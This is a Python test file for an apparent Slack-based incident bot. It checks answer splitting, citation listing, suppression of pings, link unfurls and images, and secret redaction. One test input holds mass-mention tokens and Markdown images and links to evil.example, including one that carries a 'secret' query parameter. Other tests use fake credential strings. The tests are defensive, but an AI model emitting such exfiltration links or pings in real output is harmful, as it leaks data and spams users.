"""What we say: answers in parts that hold together, checked evidence, and never a ping or a secret."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.servers.anthropic.blocks import call, text
from tests.servers.anthropic.reply import reply
from tests.servers.mcp_probe import SECRETS
from tests.servers.slack.calls import Call
from tests.servers.slack.messages import Message
from tests.stories.room import Room
from tests.stories.telling import ANSWER, ask, held, release, reply_to, story, until_reached

LONG = (
    "The deploy removed an index.\n\n```sql\n"
    + "\n".join(f"-- line {n}: SELECT * FROM orders WHERE id = {n};" for n in range(200))
    + "\n```\n\nThat was the code.\n\n"
    + "\n\n".join(f"Paragraph {n}. " + "It was slow because of the missing index. " * 8 for n in range(12))
)


def answers(room: Room) -> list[Message]:
    """Our answer's messages, in the order of their posting."""
    return room.slack.of_type(ANSWER)


def answer_posts(room: Room) -> list[Call]:
    """The calls that posted them."""
    return [c for c in room.slack.calls_of("chat.postMessage") if ANSWER in str(c.args.get("metadata"))]


def payload(message: Message) -> dict[str, object]:
    """What a message says about itself."""
    assert message.metadata is not None
    found: dict[str, object] = message.metadata["event_payload"]
    return found


def parts(room: Room) -> list[object]:
    """Which parts of how many the thread holds."""
    return [(payload(m)["part"], payload(m)["parts"]) for m in answers(room)]


async def test_a_long_answer_comes_in_parts_with_its_code_closed_and_reopened(tmp_path: Path) -> None:
    async with story(tmp_path) as room:
        room.model.script(reply(text(LONG)))
        await ask(room)
        [record] = await room.until_settled("completed", timeout=60)
        count = len(answers(room))
        assert count > 3
        assert parts(room) == [(n + 1, count) for n in range(count)]
        assert {payload(m)["final_event_id"] for m in answers(room)} == {record["final_event_id"]}
        shown = [str(m.blocks) for m in answers(room)]
        assert all(one.count("```") % 2 == 0 for one in shown)
        whole = "".join(shown)
        for number in range(200):
            assert whole.count(f"-- line {number}:") == 1
        for number in range(12):
            assert whole.count(f"Paragraph {number}.") == 1


@pytest.mark.parametrize("part", [1, 3])
async def test_a_part_whose_answer_was_lost_is_not_posted_twice(tmp_path: Path, part: int) -> None:
    async with story(tmp_path) as room:
        room.slack.lose_reply(
            "chat.postMessage", when=lambda args: f"'part': {part}," in str(args.get("metadata"))
            or f'"part": {part},' in str(args.get("metadata")),
        )  # fmt: skip
        room.model.script(reply(text(LONG)))
        await ask(room)
        await room.until_settled("completed", timeout=60)
        assert any(c.lost for c in answer_posts(room))
        assert parts(room) == [(n + 1, len(answers(room))) for n in range(len(answers(room)))]
        assert len(answer_posts(room)) == len(answers(room))


async def test_what_the_model_writes_pings_nobody_unfurls_nothing_and_loads_no_image(tmp_path: Path) -> None:
    nasty = (
        "<!channel> <!here> <!everyone> <!subteam^S0ONCALL01> <@U0ANA00001> @channel @here\n"
        "![chart](http://evil.example/x.png?q=secret) [click](http://evil.example/y) http://evil.example/z\n"
        "```\n<!channel> ![x](http://evil.example/c.png)\n```\n# <@U0ANA00001> `<!here>` <http://evil.example|x>"
    )
    async with story(tmp_path) as room:
        room.model.script(
            reply(text(nasty), call("probe__fast", {"text": nasty})), reply(text(f"{nasty}\nso [c1]"))
        )
        await ask(room, f"what is {nasty.splitlines()[1]}")
        await room.until_settled("completed")
        for message in room.slack.bot_messages():
            for version in message.versions:
                shown = f"{version.text} {version.blocks}"
                assert not re.search(r"<(?:!(?!date\^)|@|#|https?:)", shown), shown
                assert "'type': 'image'" not in shown
                assert not re.search(r"(?<!\S)@(?:channel|here|everyone)\b", shown), shown
        for done in room.slack.calls:
            if done.method == "chat.postMessage":
                assert done.args["unfurl_links"] in (False, "false", "0", 0)


async def test_an_answer_lists_the_calls_that_it_cites_and_strikes_those_that_never_were(
    tmp_path: Path,
) -> None:
    async with story(tmp_path) as room:
        room.model.script(
            reply(call("probe__fast", {"text": "p99 is 4.2 s"})),
            reply(text("It is slow [c1], and the disk is full [c9].")),
        )
        await ask(room)
        await room.until_settled("completed")
        [answer] = answers(room)
        shown = str(answer.blocks)
        assert "[c1] probe__fast" in shown
        assert "p99 is 4.2 s" in shown
        assert "~[c9]~" in shown
        assert "[c9] is not a call of this investigation" in shown
        [result] = room.model.requests[1].tool_results().values()
        assert "c1" in result.text


# --- secrets ---------------------------------------------------------------------------------------------

PERSONS = "AKIA" + "PERSONSAYSIT0001"
MODELS = "ghp_" + "modelsaysthismodelsaysthis0123456789"
INPUTS = "AKIA" + "INPUTOFACALL0002"
STEERS = "ghp_" + "steersaysthissteersaysthis0123456789"


async def test_a_secret_is_seen_nowhere_whoever_says_it(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    async with story(tmp_path) as room:
        configured = [room.slack.bot_token, room.slack.app_token, "sk-ant-test"]
        everything = [PERSONS, MODELS, INPUTS, STEERS, *configured, *SECRETS.values()]
        room.model.script(
            reply(
                text(f"I see {MODELS} and {room.slack.bot_token}"),
                call("probe__secret", {}),
                call("probe__fast", {"text": f"key {INPUTS} {room.slack.app_token} sk-ant-test"}),
                call("probe__fail", {"message": f"no entry for {MODELS}"}),
                held(room, "r"),
            ).chunked(3),
            reply(text(f"the key {MODELS} leaked [c1] [c2] [c3], also {SECRETS['pem']}")).chunked(5),
        )
        ts = await ask(room, f"is {PERSONS} valid? my token is {room.slack.bot_token}")
        await until_reached(room, "r")
        await reply_to(room, ts, f"later: and {STEERS}?")
        release(room, "r")
        room.model.script(reply(text(f"{STEERS} is fine")))
        await room.until_settled("completed", "completed")
        seen = everything_that_left(room, capfd.readouterr())
        found = [
            f"{where}: {secret[:12]}"
            for where, said in seen.items()
            for secret in everything
            if secret in said
        ]
        assert found == []
        assert "[redacted" in seen["the model"]
        assert "[redacted" in seen["Slack"]


async def test_a_secret_that_stood_in_the_thread_or_was_edited_in_is_seen_nowhere(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    async with story(tmp_path) as room:
        root = await room.slack.bot_says(
            "Alertbot", "#inc", f"key {PERSONS}", attachments=[{"title": MODELS, "text": f"token={STEERS}"}]
        )
        room.model.script(reply(text("it is the deploy")), reply(text("still [c1]")))
        ts = await room.slack.say("Ana", "#inc", "why?", mention=True, thread=root)
        await room.until_settled("completed")
        await room.slack.edit(ts, f"why {INPUTS}?", mention=True)
        await reply_to(room, root, "and now?")
        await room.until_settled("completed", "completed")
        seen = everything_that_left(room, capfd.readouterr())
        everything = (PERSONS, MODELS, STEERS, INPUTS)
        assert [f"{where}: {one}" for where, said in seen.items() for one in everything if one in said] == []
        assert "[redacted" in seen["the model"]


async def test_calls_keep_their_labels_in_later_turns(tmp_path: Path) -> None:
    async with story(tmp_path) as room:
        room.model.script(
            reply(call("probe__fast", {"text": "p99 is 4.2 s"})),
            reply(text("It is slow [c1].")),
            reply(call("probe__fast", {"text": "p99 is 0.2 s"})),
            reply(text("It was slow [c1], it is fast [c2].")),
        )
        ts = await ask(room)
        await room.until_settled("completed")
        await reply_to(room, ts, "and now?")
        await room.until_settled("completed", "completed")
        shown = str(answers(room)[-1].blocks)
        assert "[c1] probe__fast: `text=p99 is 4.2 s`" in shown
        assert "[c2] probe__fast: `text=p99 is 0.2 s`" in shown


def everything_that_left(room: Room, output: tuple[str, str]) -> dict[str, str]:
    """All that was stored, logged and sent, apart from what people wrote themselves."""
    database = b"".join(path.read_bytes() for path in sorted(room.folder.glob("watchkeeper.db*")))
    calls = [f"{c.args}" for c in room.slack.calls if not c.method.startswith("apps.")]
    return {
        "the database": database.decode("latin-1"),
        "Slack": "\n".join(calls).replace("\\n", "\n"),
        "the model": "\n".join(r.raw.decode() for r in room.model.requests).replace("\\n", "\n"),
        "the log": "".join(output),
    }
